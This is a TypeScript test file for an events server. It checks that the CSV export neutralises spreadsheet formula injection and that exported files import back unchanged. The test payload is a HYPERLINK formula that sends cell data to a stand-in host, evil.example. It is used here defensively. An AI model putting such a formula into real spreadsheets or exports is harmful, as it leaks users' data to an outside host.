import { parse } from 'csv-parse/sync';
import { asc, sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { events } from '#server/db/schema/events.ts';
import { multipartPayload } from '#server/features/csv-import/multipart-payload.ts';
import { insertEvents, makeEvent } from '#test/support/server/factories.ts';
import { adminCookie, as, createTestApp, type TestApp } from '#test/support/server/test-app.ts';

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await adminCookie(t.app);
});
afterAll(() => t.close());
beforeEach(async () => {
  await t.database.db.execute(sql`DELETE FROM events`);
});

async function exportRows() {
  const res = await t.app.inject(as(admin, { method: 'GET', url: '/api/events/export/csv' }));
  expect(res.statusCode).toBe(200);
  const [header, ...rows] = parse(res.body, { bom: true }) as string[][];
  return {
    body: res.body,
    rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
  };
}

const storedText = () =>
  t.database.db
    .select({ title: events.title, description: events.description })
    .from(events)
    .orderBy(asc(events.id));

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const SPACED_STARTS = ['=', '+', '-', '@'].flatMap((c) => [` ${c}`, `   ${c}`, `\u00a0${c}`]);

describe('CSV export and formula injection', () => {
  it.each([...FORMULA_STARTS, ...SPACED_STARTS])(
    'quotes a title and a description starting with %j',
    async (start) => {
      const payload = `${start}HYPERLINK("https://evil.example/?d="&A1,"Tickets")`;
      await insertEvents(t.database.db, [makeEvent({ title: payload, description: payload })]);
      const { rows } = await exportRows();
      expect(rows.map((r) => [r.title, r.description])).toEqual([[`'${payload}`, `'${payload}`]]);
    },
  );

  it('leaves ordinary text alone', async () => {
    const plain = ['Jazz = joy', 'A-Trak live', 'Email us @ the door', "'Quoted' night", '5 + 5'];
    await insertEvents(
      t.database.db,
      plain.map((title) => makeEvent({ title, description: title })),
    );
    const { rows } = await exportRows();
    expect(rows.map((r) => r.title)).toEqual(plain);
    expect(rows.map((r) => r.description)).toEqual(plain);
  });

  it('imports an export back as the original text, not with the quotes piled up', async () => {
    const originals = [
      { title: '=SUM(1,2)', description: '\t=tabbed description' },
      { title: '+1 show', description: '  @mention in the text' },
      { title: '-5 degrees outside', description: '-minus first' },
      { title: '@home session', description: ' =spaced formula' },
      { title: "'Already quoted' night", description: "'=a quote the user typed" },
    ];
    await insertEvents(
      t.database.db,
      originals.map((o) => makeEvent(o)),
    );
    const { body } = await exportRows();
    await t.database.db.execute(sql`DELETE FROM events`);

    const { payload, headers } = multipartPayload(body, { filename: 'export.csv' });
    const res = await t.app.inject(
      as(admin, { method: 'POST', url: '/api/events/bulk-upload', payload, headers }),
    );
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ successful: originals.length, failed: 0 });
    // Import trims text as every input does. The one text that changes otherwise is a leading
    // quote the user typed before "=": it is the quote the export adds, so the two look alike.
    const imported = originals.map((o) => ({ ...o, description: o.description.trim() }));
    imported[4]!.description = '=a quote the user typed';
    expect(await storedText()).toEqual(imported);

    // Exported again, the text is neutralised once, as before.
    const again = await exportRows();
    expect(again.rows.map((r) => [r.title, r.description])).toEqual(
      imported.map((o) => [o.title, o.description].map((x) => (/^[=+\-@]/.test(x) ? `'${x}` : x))),
    );
  });
});
